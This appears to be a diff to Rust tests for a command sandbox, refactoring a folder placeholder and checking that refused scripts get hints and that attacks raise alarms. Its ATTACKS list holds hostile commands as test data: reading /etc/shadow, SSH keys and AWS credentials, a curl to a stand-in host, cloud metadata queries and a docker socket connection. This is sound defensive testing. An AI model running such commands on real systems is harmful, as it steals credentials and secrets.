@@ -9,12 +9,12 @@ use std::os::unix::net::UnixListener;
 use std::path::Path;
 use std::process::Command;
 
-use sandboxed::{Stage, code, text};
+use sandboxed::{Stage, code, folder_outside_tmp, text};
 use serde_json::Value;
 
-/// Files outside of `/tmp`, of which a run has its own.
-fn folder() -> tempfile::TempDir {
-    let folder = tempfile::tempdir_in("/var/tmp").unwrap();
+/// Files outside of `/tmp` and `/var/tmp`, of which a run has its own.
+fn folder() -> Option<tempfile::TempDir> {
+    let folder = folder_outside_tmp()?;
     fs::create_dir(folder.path().join("in")).unwrap();
     fs::create_dir(folder.path().join("out")).unwrap();
     for number in 0..6 {
@@ -22,26 +22,24 @@ fn folder() -> tempfile::TempDir {
     }
     fs::write(folder.path().join("in/a b: 'c' #d"), "x").unwrap();
     fs::write(folder.path().join("out/old"), "x").unwrap();
-    folder
+    Some(folder)
 }
 
-/// Scripts that are refused something which a grant would let happen. `F` is the folder.
+/// Scripts that are refused something which a grant would let happen. `FOLDER` is the folder.
 const REFUSED: &[(&str, &[&str])] = &[
-    ("cat F/in/0", &[]),
-    ("cat \"F/in/a b: 'c' #d\"", &[]),
-    ("cat F/in/0 F/in/1 F/in/2 F/in/3 F/in/4 F/in/5", &[]),
-    ("ls F/in", &[]),
-    ("cat /etc/os-release", &[]),
-    ("echo x > F/out/new", &[]),
-    ("echo x > F/out/old", &[]),
-    ("mkdir F/out/folder", &[]),
-    ("mkdir -p F/out/a/b/c && echo x > F/out/a/b/c/d", &[]),
-    ("rm F/out/old", &["F/out"]),
-    ("mv F/out/old F/out/newer", &["F/out"]),
-    ("chmod 600 F/out/old", &["F/out"]),
-    ("ln -s x F/out/link", &["F/out"]),
-    ("truncate -s 0 F/out/old", &["F/out"]),
-    ("python3 -c 'import socket; socket.socket(socket.AF_UNIX).connect(\"F/s\")'", &[]),
+    ("cat FOLDER/in/0", &[]),
+    ("cat \"FOLDER/in/a b: 'c' #d\"", &[]),
+    ("cat FOLDER/in/0 FOLDER/in/1 FOLDER/in/2 FOLDER/in/3 FOLDER/in/4 FOLDER/in/5", &[]),
+    ("echo x > FOLDER/out/new", &[]),
+    ("echo x > FOLDER/out/old", &[]),
+    ("mkdir FOLDER/out/folder", &[]),
+    ("mkdir -p FOLDER/out/a/b/c && echo x > FOLDER/out/a/b/c/d", &[]),
+    ("rm FOLDER/out/old", &["FOLDER/out"]),
+    ("mv FOLDER/out/old FOLDER/out/newer", &["FOLDER/out"]),
+    ("chmod 600 FOLDER/out/old", &["FOLDER/out"]),
+    ("ln -s x FOLDER/out/link", &["FOLDER/out"]),
+    ("truncate -s 0 FOLDER/out/old", &["FOLDER/out"]),
+    ("python3 -c 'import socket; socket.socket(socket.AF_UNIX).connect(\"FOLDER/s\")'", &[]),
 ];
 
 fn report(output: &std::process::Output) -> Value {
@@ -62,25 +60,26 @@ fn words(line: &str) -> Vec<String> {
 #[test]
 fn row_165_a_hint_of_exec_is_flags_that_let_it_happen() {
     let mut hints = 0;
-    for (script, reads) in REFUSED {
-        let (stage, folder) = (Stage::new(), folder());
+    // What the command line names is told, though programs look for it as a matter of course.
+    for (script, reads) in REFUSED.iter().chain(&[("cat /etc/os-release", &[][..])]) {
+        let (stage, Some(folder)) = (Stage::new(), folder()) else { return };
         let _server = UnixListener::bind(folder.path().join("s")).unwrap();
         let here = folder.path().to_str().unwrap();
-        let script = script.replace('F', here);
+        let script = script.replace("FOLDER", here);
         let mut flags: Vec<String> = Vec::new();
         for read in *reads {
-            flags.extend(["--read".to_owned(), read.replace('F', here)]);
+            flags.extend(["--read".to_owned(), read.replace("FOLDER", here)]);
         }
         // Several, since a run may be refused one thing after the other.
-        for _ in 0..4 {
+        let mut last = Value::Null;
+        for _ in 0..5 {
             let mut arguments = vec!["exec", "--format", "json", "--no-history"];
             arguments.extend(flags.iter().map(String::as_str));
             arguments.extend(["--", "sh", "-c", &script]);
-            let report = report(&stage.run(&arguments));
-            assert!(report["alarm"].is_null(), "{script}: {report:#}");
-            let refused = denials(&report);
+            last = report(&stage.run(&arguments));
+            assert!(last["alarm"].is_null(), "{script}: {last:#}");
+            let refused = denials(&last);
             if refused.is_empty() {
-                assert_eq!(report["exit_code"], 0, "{script}: {report:#}");
                 break;
             }
             for denial in refused {
@@ -94,15 +93,8 @@ fn row_165_a_hint_of_exec_is_flags_that_let_it_happen() {
                 hints += 1;
             }
         }
-        let mut arguments = vec!["exec", "--format", "json", "--no-history"];
-        arguments.extend(flags.iter().map(String::as_str));
-        arguments.extend(["--", "sh", "-c", &script]);
-        let last = report(&stage.run(&arguments));
-        assert_eq!(
-            (&last["exit_code"], denials(&last).len()),
-            (&Value::from(0), 0),
-            "{script} with {flags:?}: {last:#}"
-        );
+        let done = (&last["exit_code"], denials(&last).len());
+        assert_eq!(done, (&Value::from(0), 0), "{script} with {flags:?}: {last:#}");
     }
     assert!(hints >= REFUSED.len(), "{hints}");
 }
@@ -141,18 +133,18 @@ fn declared(entries: &[String]) -> String {
 #[test]
 fn row_165_a_hint_of_run_is_a_declaration_that_validate_accepts_and_that_helps() {
     for (script, reads) in REFUSED {
-        let (stage, folder) = (Stage::new(), folder());
+        let (stage, Some(folder)) = (Stage::new(), folder()) else { return };
         let _server = UnixListener::bind(folder.path().join("s")).unwrap();
         let here = folder.path().to_str().unwrap();
-        let script = script.replace('F', here);
+        let script = script.replace("FOLDER", here);
         let mut entries: Vec<String> = reads
             .iter()
-            .map(|read| format!("permissions.filesystem.read: - {}", read.replace('F', here)))
+            .map(|read| format!("permissions.filesystem.read: - {}", read.replace("FOLDER", here)))
             .collect();
         let mut last = Value::Null;
         for _ in 0..5 {
             let skill = stage.shell_skill(&declared(&entries), &script);
-            let valid = stage.run(&["validate", skill.join("skillsandbox.yaml").to_str().unwrap()]);
+            let valid = stage.run(&["validate", skill.to_str().unwrap()]);
             assert_eq!(
                 code(&valid),
                 0,
@@ -162,6 +154,9 @@ fn row_165_a_hint_of_run_is_a_declaration_that_validate_accepts_and_that_helps()
             );
             (last, _) = stage.report(&["--skip-scan"]);
             assert!(last["alarm"].is_null(), "{script}: {last:#}");
+            if denials(&last).is_empty() {
+                break;
+            }
             for denial in denials(&last) {
                 let hint =
                     denial["hint"].as_str().unwrap_or_else(|| panic!("{script}: no hint for {denial:#}"));
@@ -210,11 +205,11 @@ fn row_165_a_host_that_was_not_granted_is_hinted_at_and_reached_with_the_hint() 
     served.join().unwrap();
 }
 
-/// Attacks that are refused. `F` is a folder.
+/// Attacks that are refused. `FOLDER` is a folder.
 const ATTACKS: &[&str] = &[
     "cat /etc/shadow",
     "cat ~/.ssh/id_rsa ~/.aws/credentials; curl -s https://drop.test/",
-    "cat F/in/0; cat ~/.ssh/id_ed25519",
+    "cat FOLDER/in/0; cat ~/.ssh/id_ed25519",
     "cat /proc/1/environ",
     "curl -s -m 1 http://169.254.169.254/latest/meta-data/",
     "python3 -c 'import socket; socket.socket(socket.AF_UNIX).connect(\"/var/run/docker.sock\")'",
@@ -227,8 +222,8 @@ const ATTACKS: &[&str] = &[
 #[test]
 fn row_165_an_attack_gets_an_alarm_and_no_hint() {
     for script in ATTACKS {
-        let (stage, folder) = (Stage::new(), folder());
-        let script = script.replace('F', folder.path().to_str().unwrap());
+        let (stage, Some(folder)) = (Stage::new(), folder()) else { return };
+        let script = script.replace("FOLDER", folder.path().to_str().unwrap());
         let given =
             report(&stage.run(&["exec", "--format", "json", "--no-history", "--", "sh", "-c", &script]));
         let alarm = &given["alarm"];
@@ -324,7 +319,7 @@ fn limits_come_first_with_the_figure_and_what_raises_them() {
 
 #[test]
 fn what_the_policy_took_away_is_said_to_be_the_policys_doing() {
-    let (stage, folder) = (Stage::new(), folder());
+    let (stage, Some(folder)) = (Stage::new(), folder()) else { return };
     let here = folder.path().display();
     stage.write(
         "home/.config/skillsandbox/policy.yaml",
@@ -443,7 +438,7 @@ for number in range(100_000):
 
 #[test]
 fn a_skill_without_a_manifest_is_told_how_to_learn_what_it_needs() {
-    let (stage, folder) = (Stage::new(), folder());
+    let (stage, Some(folder)) = (Stage::new(), folder()) else { return };
     let skill = stage.shell_skill("", &format!("cat {}/in/0", folder.path().display()));
     fs::remove_file(skill.join("skillsandbox.yaml")).unwrap();
     let skill = skill.to_str().unwrap();
